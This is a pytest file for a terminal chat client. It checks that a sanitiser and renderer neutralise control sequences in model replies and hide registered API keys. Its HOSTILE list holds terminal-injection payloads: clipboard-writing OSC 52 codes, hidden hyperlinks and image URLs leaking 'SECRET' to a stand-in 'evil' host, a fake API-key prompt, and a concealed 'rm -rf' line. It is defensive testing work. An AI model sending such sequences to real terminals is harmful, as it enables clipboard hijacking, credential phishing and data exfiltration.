"""The sanitiser and the renderer: no server text reaches the terminal as control sequences."""

from __future__ import annotations

import contextlib
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from segchat.text.redact import register_secret
from segchat.text.sanitize import safe, sanitize, whole_text
from segchat.ui.render import Renderer

ESC = "\x1b"
HOSTILE = [
    "Done.\x1b[32m ✔ verified\x1b[0m",
    "\x1b[2J\x1b[3J\x1b[HSession expired. Re-enter API key:",
    "\x1b]0;sudo password needed\x07",
    "\x1b]8;;https://evil/?d=SECRET\x1b\\the docs\x1b]8;;\x1b\\",
    "\x1b]52;c;cHduZWQ=\x07 and \x1b]52;c;cHduZWQ=\x1b\\",
    "\x1bP$qm\x1b\\\x1b[c\x1b[6n",
    "\x9b2J \x9d0;t\x9c",
    "rm -rf ~/x\r echo safe\b\b\b",
    "\x1b]8;;https://evil/unterminated",
    "\x1b[?1049h\x1b[?25l",
    "[link=https://evil]x[/link] [/]",
    "[official docs](https://evil/?q=chat)",
    "![s](https://evil/p.png?d=SECRET)",
    "file\u202etxt.exe" + "".join(chr(0xE0000 + ord(c)) for c in "IGNORE"),
    "a\x00b\x7fc\x1b",
    "```\n\x1b]52;c;cHduZWQ=\x07\n```",
    "a\x01\x1b]0;x\x07\x02b",
]
# Everything a terminal could act on, except SGR colour codes that rich itself writes.
FORBIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]")


def _strip_rich_sgr(text: str) -> str:
    return re.sub(r"\x1b\[[0-9;]*m", "", text)


@pytest.mark.parametrize("payload", HOSTILE)
def test_sanitize_leaves_no_controls(payload):
    assert not FORBIDDEN.search(sanitize(payload).replace("\n", "").replace("\t", ""))


def test_controls_are_shown_not_dropped():
    assert sanitize("a\x1b[31mb") == "a^[[31mb"
    assert sanitize("x\x9by") == "x<U+009B>y"
    assert sanitize("file\u202etxt") == "file<U+202E>txt"
    assert sanitize("a\x00b\x7f") == "a^@b^?"
    assert sanitize("keep\ttabs\nand lines\r\n") == "keep\ttabs\nand lines\n"
    assert sanitize("lone\rcr") == "lone^Mcr"
    assert sanitize("bad \ud800 surrogate") == "bad \ufffd surrogate"


@given(st.text())
def test_sanitize_never_emits_controls(text):
    out = sanitize(text)
    assert not FORBIDDEN.search(out.replace("\n", "").replace("\t", ""))


@given(st.text(), st.integers(min_value=1, max_value=50))
def test_chunked_equals_whole(text, size):
    text = text.replace("\r", "")  # \r\n split across chunks is joined upstream
    chunks = [text[i:i + size] for i in range(0, len(text), size)]
    assert "".join(sanitize(c) for c in chunks) == sanitize(text)


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize("rich_output", [True, False])
def test_rendered_reply_has_no_injected_sequences(payload, rich_output):
    out = io.StringIO()
    Renderer(out=out, rich_output=rich_output).reply(payload)
    written = out.getvalue()
    if not rich_output:
        assert ESC not in written
    cleaned = _strip_rich_sgr(written)
    assert ESC not in cleaned, repr(cleaned)
    assert not FORBIDDEN.search(cleaned.replace("\n", "").replace("\t", ""))
    assert "\x1b]8;" not in written  # no hidden hyperlinks


def test_markdown_links_show_their_url():
    out = io.StringIO()
    Renderer(out=out, rich_output=True).reply("see [official docs](https://evil.example/?q=chat)")
    assert "https://evil.example/?q=chat" in _strip_rich_sgr(out.getvalue())


def test_rich_markup_is_literal():
    out = io.StringIO()
    Renderer(out=out, rich_output=True).reply("[bold]not bold[/bold] [/] :smile:")
    text = _strip_rich_sgr(out.getvalue())
    assert "[bold]not bold[/bold]" in text and ":smile:" in text


def test_code_blocks_are_highlighted_on_a_terminal():
    out = io.StringIO()
    Renderer(out=out, rich_output=True).reply("```python\ndef f():\n    return 1\n```")
    assert "\x1b[" in out.getvalue()  # colours from the highlighter
    assert "def" in _strip_rich_sgr(out.getvalue())


def test_plain_output_is_the_text_itself():
    out = io.StringIO()
    Renderer(out=out, rich_output=False).reply("# Title\n\n**bold** `code`")
    assert out.getvalue() == "# Title\n\n**bold** `code`\n"


def test_errors_are_sanitised_and_redacted():
    register_secret("sk-secret-value-999")
    err = io.StringIO()
    Renderer(out=io.StringIO(), err=err, rich_output=False).error("bad \x1b]0;x\x07 sk-secret-value-999",
                                                                   to_stderr=True)
    assert "sk-secret-value-999" not in err.getvalue()
    assert ESC not in err.getvalue()
    assert "x-api-key: ***" in safe("header x-api-key: abcdefgh1234")


@pytest.mark.parametrize("rich_output", [False, True])
def test_a_reply_hides_the_key_and_keeps_a_header_written_out(rich_output):
    register_secret("sk-secret-value-999")
    out = io.StringIO()
    Renderer(out=out, rich_output=rich_output).reply('key sk-secret-value-999\n\n    curl -H "x-api-key: $KEY"')
    assert "sk-secret" not in out.getvalue() and "***" in out.getvalue()
    assert 'curl -H "x-api-key: $KEY"' in _strip_rich_sgr(out.getvalue())  # an example, not a secret


def test_table_is_tab_separated_when_piped():
    out = io.StringIO()
    Renderer(out=out, rich_output=False).table(("a", "b"), [("x\x1b", "y\tz")])
    assert out.getvalue() == "a\tb\nx^[\ty z\n"


def test_clipboard_uses_osc52(monkeypatch):
    monkeypatch.setattr("segchat.ui.render.is_terminal", lambda stream: True)
    monkeypatch.delenv("TMUX", raising=False)
    out = io.StringIO()
    assert Renderer(out=out, rich_output=True).clipboard("hi") == "OSC 52"
    assert out.getvalue() == "\x1b]52;c;aGk=\x07"
    register_secret("sk-secret-value-999")
    out = io.StringIO()
    Renderer(out=out, rich_output=True).clipboard("sk-secret-value-999")  # a reply stored before keys were hidden
    assert out.getvalue() == "\x1b]52;c;Kioq\x07"  # ***


def test_table_on_a_terminal():
    out = io.StringIO()
    Renderer(out=out, rich_output=True).table(("name", "title"), [("a\x1b", "[b]x[/b]")])
    text = _strip_rich_sgr(out.getvalue())
    assert "name" in text and "a^[" in text and "[b]x[/b]" in text


@given(st.lists(st.sampled_from(["a", "é", "日", "👍", "\ud800", "\udc00", "\ud83d", "\udc4d", "\udfff", "\n"]),
                max_size=8).map("".join))
def test_whole_text_joins_pairs_and_replaces_lone_surrogates(text):
    """The quick checks (ASCII; encodes as UTF-8) agree with reading each character."""
    expected = (text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
                if any("\ud800" <= c <= "\udfff" for c in text) else text)
    assert whole_text(text) == expected
    assert whole_text(text).encode().decode() == expected  # UTF-8 now, raising nothing


def test_the_recap_wraps_at_words_to_the_terminal(monkeypatch):
    monkeypatch.setenv("COLUMNS", "30")
    monkeypatch.setenv("NO_COLOR", "1")
    out = io.StringIO()
    words = [f"word{n}" for n in range(40)]
    Renderer(out=out, rich_output=True).exchange("assistant", " ".join(words) + "\nsecond line", mark="cut off")
    lines = out.getvalue().splitlines()
    assert lines[0].startswith("model (cut off): word0 ")
    assert all(len(line) <= 30 for line in lines)
    assert " ".join(" ".join(lines).split()).endswith(" ".join(words) + " second line")  # no word cut in two
    assert lines[-1] == "second line"


# -- the spinner's line ------------------------------------------------------------------------------------


class Status:
    """rich's status line, as the spinner updates it."""

    def __init__(self) -> None:
        self.shown: list[str] = []

    def update(self, text: str) -> None:
        self.shown.append(text)


class Terminal(io.StringIO):
    """Output that is a terminal, as the spinner's must be."""

    def isatty(self) -> bool:
        return True


class Console:
    """rich's console, for its status() alone."""

    def __init__(self) -> None:
        self.status_shown = Status()

    @contextlib.contextmanager
    def status(self, text: str, spinner: str):
        self.status_shown.shown.append(text)
        yield self.status_shown


@pytest.mark.parametrize("state, counting, shown", [
    (None, False, r"waiting for the model… \ds  \(Ctrl-C cancels\)"),
    ("queued", False, r"queued… \ds  \(Ctrl-C cancels\)"),
    ("rate limited (429): sending again in 9 s", True,
     r"rate limited \(429\): sending again in 9 s  \(Ctrl-C cancels\)"),  # its own seconds alone
    ("a\x1b[31mb", False, r"a\^\[\[31mb… \ds  \(Ctrl-C cancels\)"),  # sanitised
])
def test_the_spinner_line(state, counting, shown):
    renderer = Renderer(out=Terminal(), rich_output=True)
    renderer._console = console = Console()
    with renderer.waiting() as tick:
        tick(state, counting)
    assert console.status_shown.shown[0] == "waiting for the model… 0s"
    assert re.fullmatch(shown, console.status_shown.shown[-1]), console.status_shown.shown[-1]
